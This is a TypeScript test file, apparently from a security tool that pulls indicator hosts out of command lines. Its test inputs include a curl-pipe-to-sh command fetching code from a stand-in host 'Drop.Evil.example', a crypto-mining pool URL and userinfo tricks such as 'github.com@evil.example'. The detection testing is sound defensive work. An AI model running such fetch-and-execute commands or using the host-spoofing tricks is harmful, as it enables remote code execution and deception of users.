import { expect } from 'chai';
import fc from 'fast-check';
import { hostsOf } from '../../src/findings/hosts.ts';
import { indicatorKey } from '../../src/findings/indicator.ts';

function hosts(...words: readonly string[]): string[] {
  return hostsOf(
    words.map((word) => Buffer.from(word, 'latin1')),
    'rule',
  ).map(indicatorKey);
}

describe('hosts of a command line', () => {
  it('are those of its URLs, also within a word of a shell', () => {
    expect(
      hosts('sh', '-c', 'curl -s http://Drop.Evil.example/x|sh; wget "https://b.example:8443"'),
    ).to.deep.equal(['domain drop.evil.example', 'domain b.example']);
    expect(hosts('/tmp/x', '-o', 'stratum+tcp://pool.example:3333')).to.deep.equal(['domain pool.example']);
    expect(hosts('curl', 'http://198.51.100.9:8080/a', 'http://[2001:db8::1]/b')).to.deep.equal([
      'address 198.51.100.9 8080',
      'address 2001:db8::1',
    ]);
  });
  it('are the real ones, whoever stands before them', () => {
    expect(hosts('http://github.com@evil.example/', 'http://a:b@c@evil.example')).to.deep.equal([
      'domain evil.example',
      'domain evil.example',
    ]);
    expect(hosts('http://good.example\\@evil.example/', 'http://evil.example\\x')).to.deep.equal([]);
  });
  it('are no names of files, no shell variables, and nothing that every machine has', () => {
    expect(hosts('python', 'run.py', 'app.conf', 'evil.example', 'evil.example:443')).to.deep.equal([]);
    expect(hosts('curl http://$HOST/x', 'http://${A}.example/', 'http://ev%69l.example/')).to.deep.equal([]);
    const own = [
      'localhost',
      '127.0.0.1:80',
      'kubernetes.default.svc',
      'a.b.svc.cluster.local',
      'x.svc.corp.example',
    ];
    expect(
      hosts(...[...own, 'metadata.google.internal', 'kubernetes'].map((host) => `http://${host}/`)),
    ).to.deep.equal([]);
  });
  it('are bounded, and of plain characters whatever is written', () => {
    expect(hosts(...Array.from({ length: 100 }, (_, n) => `http://h${n}.example/`))).to.have.length(16);
    expect(hosts('a://'.repeat(200_000))).to.deep.equal([]);
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 60 }), (bytes) => {
        for (const key of hosts(`http://${Buffer.from(bytes).toString('latin1')}.example/`))
          expect(key).to.match(/^(?:domain [a-z0-9._-]+|address [0-9a-f:.]+(?: [0-9]+)?)$/);
      }),
    );
  });
});
